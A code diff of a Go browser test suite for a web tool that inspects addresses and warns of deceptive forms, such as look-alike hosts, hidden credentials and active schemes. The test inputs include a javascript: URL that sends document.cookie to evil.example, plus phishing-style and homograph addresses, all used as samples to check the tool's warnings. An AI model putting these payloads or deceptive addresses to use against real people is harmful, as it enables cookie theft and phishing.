@@ -12,7 +12,8 @@ import (
 	"strings"
 	"testing"
 
-	"example.com/iri/internal/testenv"
+	"example.com/iri"
+	"example.com/iri/internal/proof/testenv"
 	"github.com/chromedp/cdproto/page"
 	"github.com/chromedp/chromedp"
 )
@@ -26,7 +27,7 @@ const (
 	narrow     = 360       // pixels
 	maxNodes   = 15_000    // elements of the page
 	maxHeight  = 3_200     // pixels of the page in a narrow window
-	maxTop     = 620       // pixels above the parts there
+	maxTop     = 720       // pixels above the parts there, after a headline with a long host
 )
 
 func TestPage(t *testing.T) {
@@ -49,6 +50,8 @@ func TestPage(t *testing.T) {
 			{"hostile text", testHostile, false},
 			{"dense text", testDense, false},
 			{"link", testLink, false},
+			{"copy", testCopy, false},
+			{"long text", testLong, false},
 			{"keyboard", testKeyboard, false},
 			{"narrow", testNarrow, false},
 			{"pictures", testPictures, false},
@@ -107,6 +110,10 @@ func testFiles(t *testing.T, files map[string][]byte) {
 	}
 }
 
+// misleads asks whether what a person reads first has a word that not everybody knows, or says that all is well.
+const misleads = `/\b(base|origin|URI|normal|reference|reads the same|to warn)\b/i.test(
+	all("header, form, #verdict").map(e => e.innerText))`
+
 // What the page shows at CSS selectors: the visible texts there, joined by " | ".
 type shown map[string]string
 
@@ -121,94 +128,117 @@ const (
 	spelling  = "#reading .spelling th"
 	pairsOf   = "#pairs td"
 	formsOf   = "#forms dd code"
-	notes     = "#forms .note"
+	notes     = "#forms dd .note"
+	leftOut   = "#display .note"
 	changed   = "#forms mark"
 	columns   = "#readers th"
 )
 
 // The verdict, with its level before it, and what else is special about a text.
 func testAnswers(p *tab) {
+	p.run(`$("forms-section").open = true`)
 	for _, row := range []struct {
 		text, base, verdict string
 		want                shown
 	}{
 		// The verdict says where an address leads.
 		{"https://paypal.com%2Flogin:443@203.0.113.7/", "",
-			"error: Leads to 203.0.113.7 1 error. This browser reads the same.",
+			"error: This browser goes to 203.0.113.7 1 error. Other programs may go elsewhere, or nowhere.",
 			shown{"#display bdi": "https://203.0.113.7/", rules: "userinfo-like-host", places: "paypal.com%2Flogin:443@",
 				different: "", spelling: ""}},
 		{"https://example.com:8443/menu/caf%C3%A9?q=rosé&page=2#top", "",
-			"fine: Leads to example.com:8443 Nothing to warn of. This browser reads the same.",
+			"fine: Leads to example.com:8443 Nothing odd in how it is written. Not checked: whose name this is, ",
 			shown{names: "scheme | host | port | path | query | fragment", pairsOf: "q | rosé | page | 2", spelling: "query",
 				columns: "Part | Package iri | This browser | Difference"}},
-		{"https://аррӏе.com/", "", "warning: Leads to xn--80ak6aa92e.com 1 warning.",
+		{"https://аррӏе.com/", "", "warning: Leads to xn--80ak6aa92e.com xn--80ak6aa92e stands for аррӏе, ",
 			shown{rules: "look-alike", "#display bdi": "https://xn--80ak6aa92e.com/"}},
-		{"https://例え.jp/カフェ?席=2", "", "fine: Leads to 例え.jp",
-			shown{formsOf: "https://xn--r8jz45g.jp/%E3%82%AB%E3%83%95%E3%82%A7?%E5%B8%AD=2"}},
-		{"https://user:s3cret@example.com/?access_token=S3CRET", "", "error: Leads to example.com 1 error, 1 warning.",
-			shown{"#display bdi": "https://example.com/?access_token=xxxxx", rules: "password | secret-param"}},
+		{"https://XN--80AK6AA92E.com/", "", "warning: Leads to xn--80ak6aa92e.com xn--80ak6aa92e stands for аррӏе, " +
+			"which can look like another name: а, р, ӏ, е are not Latin letters. Not checked: whose name this is, ", nil},
+		{"https://paypa1.com", "", "fine: Leads to paypa1.com In paypa1, 1 is a digit, not a letter. Not checked: ", nil},
+		{"https://2001.h10.example/", "", "fine: Leads to 2001.h10.example Nothing odd ", nil},
+		{"https://bit.ly/x", "", "warning: Leads to bit.ly, which hides where it leads next Not checked: ", nil},
+		{"https://bit.ly/", "", "fine: Leads to bit.ly Nothing", nil},
+		{"bit.ly/x", "", "warning: Perhaps bit.ly is meant, which hides where it leads next ", nil},
+		{"https://例え.jp/カフェ?席=2", "", "fine: Leads to 例え.jp Nothing odd",
+			shown{formsOf: "https://xn--r8jz45g.jp/%E3%82%AB%E3%83%95%E3%82%A7?%E5%B8%AD=2 | https://xn--r8jz45g.jp"}},
+		{"https://xn--r8jz45g.jp/", "", "fine: Leads to 例え.jp Nothing odd", shown{spelling: ""}},
+		{"https://user:s3cret@example.com/?access_token=S3CRET", "",
+			"error: This browser goes to example.com 1 error, 1 warning. Other programs may go elsewhere, or nowhere.",
+			shown{"#display bdi": "https://example.com/?access_token=xxxxx", rules: "password | secret-param",
+				leftOut: "Left out: what stands before the @, and secrets, which are xxxxx here."}},
 		{"https://example.com@0x7f.1/%2e%2e/admin?a=1;b=2", "",
-			"error: Leads to 0x7f.1, but in this browser to 127.0.0.1 2 errors, 1 warning. This browser reads another host.",
+			"error: Programs disagree: 0x7f.1, but in this browser 127.0.0.1 2 errors, 1 warning. This browser reads ",
 			shown{rules: "userinfo-like-host | encoded-dot-segment | ipv4-like", different: "host", pairsOf: "a | 1;b=2",
-				notes: "none: "}},
-		{"http:///evil.example/login", "", "error: Leads to evil.example in this browser",
+				notes: " | the same text | none: userinfo: ", leftOut: "Left out: what stands before the @."}},
+		{"http:///evil.example/login", "", "error: This browser goes to evil.example",
 			shown{rules: "http-host", places: "‸", different: "host | path"}},
-		{"https://a.example:99999/", "", "error: Leads to a.example:99999 1 error. This browser rejects it.",
-			shown{columns: "", places: "99999"}},
-		{"urn:isbn:0451450523", "", "fine: Leads to no host: the scheme is urn", nil},
-		{"data:text/html,x", "", "error: Runs a program: data:", nil},
-		{"https://" + strings.Repeat("a.", 60) + "example/", "", "fine: Leads to ….a.a", nil},
+		{"https://a.example:99999/", "", "error: This browser rejects this address 1 error.", shown{places: "99999"}},
+		{"https://xn--a/", "", "warning: Leads to xn--a xn--a stands for no name. ", nil},
+		{"urn:isbn:0451450523", "", "fine: Names no site: it begins with urn: Nothing odd", shown{changed: ""}},
+		{"ssh://" + strings.Repeat("例", 9) + "/", "", "fine: Names the host 例", nil}, // DNS has no say here
+		{"data:text/html,x", "", "error: Can run a program: data:", nil},
+		{"https://" + strings.Repeat("a.", 60) + "b/", "", "fine: Leads to " + strings.Repeat("a.", 60) + "b ", nil},
+		{"https://" + strings.Repeat("a", 64) + ".example/", "", "error: No host has a name so long", nil},
 		// Spelling is minor, also if nothing else is found.
-		{"HTTPS://Example.com:443/a/%2E%2E/caf%c3%a9", "", "error: Leads to example.com 1 error.",
+		{"HTTPS://Example.com:443/a/%2E%2E/caf%c3%a9", "", "error: This browser goes to example.com 1 error.",
 			shown{rules: "encoded-dot-segment", minor: "4 minor findings",
 				formsOf: "https://example.com/café", changed: "https | example.com | /café"}},
-		{"HTTPS://Example.com:443/", "", "fine: Leads to example.com Nothing to warn of.",
+		{"HTTPS://Example.com:443/", "", "warning: This browser goes to example.com Other programs may go ",
 			shown{rules: "", minor: "3 minor findings", formsOf: "https://example.com/"}},
 		{"https://a.example/?x=%E2%80%8B&y=%E2%80%8B", "", "warning: Leads to a.example 2 warnings.",
 			shown{"#parts > .findings b": "warning × 2", rules: "encoded-invisible"}},
 		// What people type.
-		{"www.example.com", "", "fine: Leads to www.example.com, if https:// is meant",
+		{"www.example.com", "", "fine: Perhaps www.example.com is meant Without https:// in front, it ",
 			shown{offered: "https://www.example.com", edits: "https:// is inserted",
 				columns: "Part | Package iri, with a scheme | This browser | Difference", spelling: "path"}},
-		{"", "", ": Type or paste an address, or choose an example.", nil},
-		{"../map", "", "warning: Leads nowhere without a base", shown{offered: "", columns: ""}},
-		{"example.com:8080/x", "", "warning: Leads to no host", shown{offered: "https://example.com:8080/x"}},
+		{"", "", ": Type or paste an address above, or choose an example.", nil},
+		{"../map", "", "warning: Leads nowhere by itself Without https:// in front, ", shown{offered: "", columns: ""}},
+		{"example.com:8080/x", "", "warning: Names no site: it begins with example.com:",
+			shown{offered: "https://example.com:8080/x"}},
 		// Invalid texts: all mistakes, what the browser reads, and a repair.
 		{`javascript:fetch("https://evil.example/"+document.cookie)`, "",
-			"error: Runs a program: javascript: 2 mistakes. 1 warning. This browser reads the same.",
-			shown{places: `" | "`, offered: "javascript:fetch(%22https://evil.example/%22+document.cookie)",
-				".offer .findings code": "scheme-active"}},
-		{"java\tscript:alert(1)", "", "error: Runs a program: javascript: 1 mistake.", shown{edits: "U+0009 is removed"}},
-		{"https://exa mple.com:80a/<b>?q=[1]|2#x#y", "",
-			"error: Not valid: it leads nowhere 8 mistakes. This browser rejects it.",
+			"error: Can run a program: javascript: 2 mistakes. 1 warning.",
+			shown{offered: "javascript:fetch(%22https://evil.example/%22+document.cookie)",
+				notes: "the same text | the same text", places: `" | "`, ".offer .findings code": "scheme-active"}},
+		{"java\tscript:alert(1)", "", "error: Can run a program: javascript: 1 mistake.", shown{edits: "U+0009 is removed"}},
+		{"https://exa mple.com:80a/<b>?q=[1]|2#x#y", "", "error: Not valid: it leads nowhere 8 mistakes.",
 			shown{places: "space | 80a | < | > | [ | ] | | | #", columns: "", offered: ""}},
 		{"https://[1.2.3.4]/", "", "error: Not valid", shown{places: "[1.2.3.4]"}},
 		{"https://[::1", "", "error: Not valid", shown{places: "[::1"}},
-		{"1a:b c", "", "error: Not valid: it leads nowhere 2 mistakes.", shown{places: ": | space"}},
+		{"1a:b c", "", "warning: Leads nowhere by itself 2 small mistakes.", shown{places: ": | space"}},
 		{`https://evil.example\@example.com/`, "",
-			"error: Not valid, but this browser goes to evil.example 1 mistake. This browser accepts it.",
+			"error: Not valid, but this browser goes to evil.example 1 mistake.",
 			shown{places: `\`, columns: "Part | This browser", ".sign": "", "#legend": ""}},
-		{"https://example.com/my file?filter[x]=1 ", "", "error: Not valid, but this browser goes to example.com",
+		{"https://ex\tample.com/", "", "error: Not valid, but this browser goes to example.com 1 mistake.", nil},
+		{"https://u@a.example/a b", "", "error: Not valid, but this browser goes to a.example 1 mistake.", nil},
+		// What browsers repair in the same way is not red.
+		{"a b/[x]|y?q=100%", "", "warning: Leads nowhere by itself 5 small mistakes. Without https:// in front, ",
+			shown{".broken": "", minor: "5 minor findings", offered: "a%20b/%5Bx%5D%7Cy?q=100%25"}},
+		{`/\evil.example`, "", "error: Leads nowhere by itself 1 mistake.", nil},
+		{`https://a.example/?q=\`, "", "warning: Leads to a.example 1 small mistake, ", nil},
+		{"a b/[x]|y?q=100%", "https://a.example/", "warning: Leads to a.example 5 small mistakes, which ", nil},
+		{"https://example.com/my file?filter[x]=1 ", "",
+			"warning: Leads to example.com 4 small mistakes, which browsers repair. Not checked: ",
 			shown{edits: "space becomes %20 | [ becomes %5B | ] becomes %5D | space is removed",
-				columns: "Part | Package iri, repaired | This browser | Difference", "#forms-title": "Other forms, repaired"}},
-		{"www.example.com/a b", "", "error: Not valid. Repaired, it leads to www.example.com 1 mistake.",
-			shown{edits: "https:// is inserted | space becomes %20"}},
+				columns: "Part | Package iri, repaired | This browser | Difference"}},
+		{"www.example.com/a b", "", "warning: Perhaps www.example.com is meant 1 small mistake.",
+			shown{edits: "https:// is inserted | space becomes %20", "#forms-title": "Other forms, repaired, for programs"}},
 		// A base.
-		{"../map?zoom=3#here", "https://example.com/menu/today", "fine: Leads to example.com A reference, without a scheme.",
+		{"../map?zoom=3#here", "https://example.com/menu/today", "fine: Leads to example.com Read as a link in the page ",
 			shown{names: "path | query | fragment | scheme | host | path | query | fragment",
 				"#display bdi": "https://example.com/map?zoom=3#here", offered: ""}},
-		{"b", "https://a.example/|", "error: Leads to a.example in this browser",
-			shown{"#base-error": "The base is ignored: "}},
-		{"a", "b", "warning: Leads nowhere without a base A reference, without a scheme. This browser rejects it.", nil},
+		{"b", "https://a.example/|", "error: This browser goes to a.example",
+			shown{"#base-error": "This address is ignored: "}},
+		{"a", "b", "warning: Leads nowhere by itself Without https:// in front, ", nil},
 		// browsers ignore the scheme here
-		{"http:g", "http://a.example/b/", "error: Leads to a.example in this browser", shown{different: "host | path"}},
+		{"http:g", "http://a.example/b/", "error: This browser goes to a.example", shown{different: "host | path"}},
 		// Where the two readers differ, and where they only spell it differently.
 		{"https://a.example", "", "", shown{different: "", spelling: "path"}},
 		{"https://a.example/%7e%41", "", "", shown{different: ""}},
-		{"https://[0:0::1]:443/", "", "fine: Leads to [::1]", shown{different: "", spelling: "host | port"}},
+		{"https://[0:0::1]:443/", "", "warning: This browser goes to [::1]", shown{different: "", spelling: "host | port"}},
 		{"https://u;a='b'@a.example/it's?q=it's#it's", "", "", shown{different: "", spelling: "userinfo | query"}},
 		{"https://BÜCHER.example/", "", "fine: Leads to bücher.example", shown{different: "", spelling: "host"}},
-		{"https://ｅvil.example/", "", "error: Leads to evil.example 1 warning. This browser reads another host.",
+		{"https://ｅvil.example/", "", "error: This browser goes to evil.example 1 warning. This browser reads another host.",
 			shown{different: "host"}},
 		{"https://\u212Aé.example/", "", "", shown{different: "host"}}, // a Kelvin sign becomes a k
 		{"https://é\ufe0f.example/", "", "", shown{different: "host"}}, // IDNA removes the second character
@@ -219,6 +249,16 @@ func testAnswers(p *tab) {
 		got := p.text(`$("verdict").className + ": " + $("status").textContent`)
 		if want := row.verdict; want != "" && !strings.HasPrefix(got, want) {
 			p.Errorf("%.80q: got %q, want %q", row.text, got, want)
+		}
+		base, _ := iri.Parse(row.base)
+		u, err := base.ParseLink(row.text)
+		_, none := u.Origin()
+		if strings.Contains(got, "Leads to ") && (err != nil || none != nil && u == u.ToURI() ||
+			!eval[bool](p, `URL.canParse($("text").value, $("base").value || undefined)`)) {
+			p.Errorf("%.80q: %q, but %v, %v", row.text, got, err, none)
+		}
+		if eval[bool](p, misleads) {
+			p.Errorf("%.80q: what a person reads first misleads: %q", row.text, got)
 		}
 		for selector, want := range row.want {
 			got := p.text(`all(` + quote(selector) + `).filter(e => e.checkVisibility()).map(e => e.textContent.trim())
@@ -247,7 +287,7 @@ func testColors(p *tab) {
 		{"", ".path > code", "color"}, {"", ".query > code", "color"}, {"", ".fragment > code", "color"},
 		{"", ".finding .place", "textDecorationStyle"}, {"", "#forms mark", "backgroundColor"},
 		{"https://127.1/", ".different td", "backgroundColor"},
-		{"a b", ".finding .place", "backgroundColor"},
+		{"https://a b/", ".finding .place", "backgroundColor"},
 	} {
 		if row.text != "" {
 			p.enter(row.text, "")
@@ -260,11 +300,17 @@ func testColors(p *tab) {
 	}
 }
 
-// Each example has an answer, the first is shown at first, and typing replaces it.
+// The page opens empty, with examples to choose. Each has an answer, and typing replaces it.
 func testExamples(p *tab) {
 	names := eval[[]string](p, `all("#examples optgroup option").map(e => e.value)`)
-	if first := p.text(`$("examples").value`); len(names) < 12 || !slices.Contains(names, first) {
-		p.Errorf("of %q, %q is shown at first", names, first)
+	const start = `$("text").value + $("examples").value + all("#welcome button").filter(e => e.checkVisibility())
+		.map(e => e.textContent)`
+	if got := p.text(start); len(names) < 12 || got != strings.Join(names, ",") {
+		p.Errorf("of %q, the page shows %q at first", names, got)
+	}
+	p.do(chromedp.Click(chromedp.CSS("#welcome button")))
+	if got := p.text(`$("text").value`); got == "" || p.text(start) != got+names[0] {
+		p.Errorf("the first example is %q", got)
 	}
 	seen := map[string]bool{}
 	for _, name := range names {
@@ -275,12 +321,12 @@ func testExamples(p *tab) {
 			p.Errorf("example %q has no answer", name)
 		}
 	}
-	p.do(chromedp.Focus(chromedp.ID("text")), chromedp.KeyEvent("x"))
+	p.do(chromedp.Focus(chromedp.ID("examples")), chromedp.Focus(chromedp.ID("text")), chromedp.KeyEvent("x"))
 	if got := p.text(`$("text").value + $("examples").value`); got != "x" || len(seen) != len(names) {
 		p.Errorf("after %d different examples, typing makes %q", len(seen), got)
 	}
 	got := p.text(`fetch(document.querySelector("#reading-section a").href).then(r => r.text())`)
-	if got != testenv.Read("../../readers/RESULTS.md") {
+	if got != testenv.Read("../../evidence/readers/RESULTS.md") {
 		p.Errorf("the page leads to what other programs read as %.100q", got)
 	}
 }
@@ -326,10 +372,11 @@ func testHostile(p *tab) {
 // The page loads its own files only, and the browser would stop anything else.
 func testElsewhere(p *tab) {
 	p.enter("https://other.example/x.png", "https://other.example/")
-	names := eval[[]string](p,
-		`performance.getEntriesByType("resource").map(e => e.name.slice(document.baseURI.lastIndexOf("/") + 1)).sort()`)
-	if want := []string{"page.css", "page.js", "page.wasm-gz", "wasm_exec.js"}; !slices.Equal(names, want) {
-		p.Errorf("the page loads %q, want %q", names, want)
+	p.run(`fetch("page.js?last").then(r => r.text())`)
+	const names = `performance.getEntriesByType("resource").map(e => e.name.split("/").at(-1)).sort().join()`
+	p.wait(names + `.includes("last")`)
+	if got := p.text(names); got != "page.css,page.js,page.js?last,page.wasm-gz,wasm_exec.js" {
+		p.Errorf("the page loads %s", got)
 	}
 	asked := false
 	other := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked = true }))
@@ -386,6 +433,51 @@ func testLink(p *tab) {
 	p.wait(`$("text").value === "x:y"`)
 }
 
+// Each button copies all of what it stands beside, and no password, even if that is cut.
+func testCopy(p *tab) {
+	p.run(`$("forms-section").open = true; navigator.clipboard.writeText = async text => { window.copied = text; }`)
+	p.enter("https://user:s3cret@EXAMPLE.com/?access_token=S3CRET#é"+strings.Repeat("a", 5000), "")
+	got := eval[[]string](p, `all("#verdict .use, #forms .use").filter(e => e.textContent.startsWith("Copy")).map(e => {
+		e.click();
+		return e.parentElement.querySelector(".cut").textContent === copied ? copied : "another text";
+	})`)
+	if len(got) != 3 || slices.Contains(got, "another text") || strings.Contains(strings.ToLower(got[0]), "s3cret") {
+		p.Errorf("the buttons copy %.200q", got)
+	}
+}
+
+// A long text ends in "…", and a button shows all of it. So does the keyboard, if it reaches a finding
+// there. The end of a host is not cut.
+func testLong(p *tab) {
+	for text, want := range map[string]string{
+		"https://example.com/": "",
+		"https://example.com/" + strings.Repeat("a", 3000) + "%00": "display,part path,TD,TD",
+		"https://" + strings.Repeat("a.", 120) + "example/":        "TD,TD",
+	} {
+		p.enter(text, "")
+		got := p.text(`all(".cut").filter(e => e.scrollHeight > e.clientHeight + 1).map(e => {
+			const [button, parent, finding] = [e.nextElementSibling, e.parentElement, e.querySelector("[tabindex]")];
+			const is = (isCut, label) => isCut === (getComputedStyle(e).webkitLineClamp !== "none") &&
+				button.textContent === label;
+			const wasCut = is(true, "Show all");
+			finding?.focus({ focusVisible: true });
+			const isReached = is(!finding, "Show all");
+			finding?.blur();
+			button.click();
+			const isShown = is(false, "Show less") && e.scrollHeight <= e.clientHeight + 1;
+			return wasCut && isReached && isShown ? parent.id || parent.className || parent.tagName : "not all is shown";
+		}).join()`)
+		if got != want {
+			p.Errorf("%.50q: %q are cut, want %q", text, got, want)
+		}
+	}
+	p.enter("HTTPS://example.com/"+strings.Repeat("a", 200), "")
+	p.as(narrow, 800, false) // in the wider window, it is not cut
+	p.wait(`document.querySelector("#display .more") !== null`)
+	p.run(`$("forms-section").open = true`)
+	p.wait(`document.querySelector("#forms .more") !== null`)
+}
+
 // Everything can be reached and read with the keyboard.
 func testKeyboard(p *tab) {
 	p.enter("https://example.com@0x7f.1/"+strings.Repeat("a", 5000), "")
@@ -399,7 +491,8 @@ func testKeyboard(p *tab) {
 		}
 		reached = append(reached, name)
 	}
-	for _, want := range []string{"examples", "link", "Base", "box", "use", "finding error", "finding warning"} {
+	for _, want := range []string{"examples", "link", "It is a link in a page", "use more", "use", "finding error",
+		"finding warning"} {
 		if !slices.Contains(reached, want) {
 			p.Errorf("the keyboard reaches %q, not %q", reached, want)
 		}
@@ -449,6 +542,13 @@ func testNarrow(p *tab) {
 			}
 		}
 	}
+	for _, host := range []string{strings.Repeat("a-label.", 22) + strings.Repeat("w", 63), strings.Repeat("例", 15)} {
+		p.enter("https://"+host+"/", "")
+		if got := p.text(`document.documentElement.scrollWidth + all("#status .label").map(e =>
+			e.getClientRects().length === 1 ? e.textContent : "a label that breaks").join("")`); got != "360"+host {
+			p.Errorf("the headline shows %q as %q", host, got)
+		}
+	}
 	p.enter("HTTPS://Example.com@0X7F.1:443/a/%2E%2E/caf%c3%a9?a=%E2%80%8B%00", "")
 	tips := eval[[]float64](p, `all(".finding").map(e => {
 		e.focus();
@@ -478,10 +578,10 @@ func testAxe(p *tab) {
 			p.run(string(axe))
 			for _, text := range []string{"https://paypal.com%2Flogin:443@203.0.113.7/", "www.example.com",
 				`javascript:fetch("https://evil.example/"+document.cookie)`,
-				"https://аррӏе.com/", "https://user:s3cret@example.com/?access_token=S3CRET", "http://good.example;.evil.example/",
-				"HTTPS://a.example@0x7f.1:8/a%2fb?a=%20\u200b#b", "", "#",
+				"https://xn--80ak6aa92e.com/", "a b/[x]|y", "https://user:s3cret@example.com/?access_token=S3CRET",
+				"http://good.example;.evil.example/", "HTTPS://a.example@0x7f.1:8/a%2fb?a=%20\u200b#b", "", "#",
 				"https://example.com/" + strings.Repeat("a", 6000)} {
-				p.enter(text, "1")
+				p.enter(text, text)
 				p.run(`$("link").click(), all("details").forEach(e => { e.open = true; })`)
 				for _, f := range eval[[]string](p,
 					`axe.run().then(r => r.violations.map(v => v.impact + ": " + v.id + ": " + v.nodes.map(n => n.html).join(" ")))`) {
@@ -521,13 +621,12 @@ func testDense(p *tab) {
 func testTime(p *tab) {
 	load, example, input := math.Inf(1), math.Inf(1), math.Inf(1)
 	for range 7 {
-		p.open("")
+		p.open("#text=https://example.com@0x7f.1/%252e%252e/admin")
 		p.enter("https://例え.jp:8080/menu/../カフェ?q=ros%C3%A9#top", "")
 		times := eval[[]float64](p, `performance.getEntriesByName("answer").flatMap(e => [e.startTime, e.duration])`)
 		load, example, input = min(load, times[0]), min(example, times[1]), min(input, times[3])
 	}
-	p.Logf("milliseconds: until the program runs %.0f; for the example that is shown at first %.1f; for the first "+
-		"input %.1f", load, example, input)
+	p.Logf("milliseconds: until the program runs %.0f; for a link %.1f; for the first input %.1f", load, example, input)
 	if max(example, input) > 50 {
 		p.Error("that is too long")
 	}
@@ -538,7 +637,7 @@ func testPictures(p *tab) {
 	for name, isDark := range map[string]bool{"page-light.png": false, "page-dark.png": true} {
 		if *update {
 			p.as(1100, 760, isDark)
-			p.open("")
+			p.open("#text=https://example.com@0x7f.1/%252e%252e/admin?a%3D1;b%3D2")
 			if err := os.WriteFile(name, result(p, chromedp.CaptureScreenshot()), 0o666); err != nil {
 				p.Fatal(err)
 			}
